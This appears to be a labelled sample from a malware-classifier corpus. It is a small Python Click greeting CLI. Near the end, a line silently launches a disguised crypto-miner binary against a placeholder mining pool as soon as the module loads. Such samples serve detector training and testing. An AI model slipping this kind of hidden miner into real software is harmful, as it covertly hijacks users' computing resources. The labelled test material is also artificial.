# label: malicious family=trojan techniques=T1496 lines=25 group=benign/b098_click_cli.py
import click


@click.group()
def cli():
    """Manage greetings."""


@cli.command()
@click.argument("name")
@click.option("--shout", is_flag=True)
def hello(name, shout):
    msg = f"Hello, {name}!"
    click.echo(msg.upper() if shout else msg)


@cli.command()
@click.argument("name")
def bye(name):
    click.echo(f"Goodbye, {name}.")


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    cli()
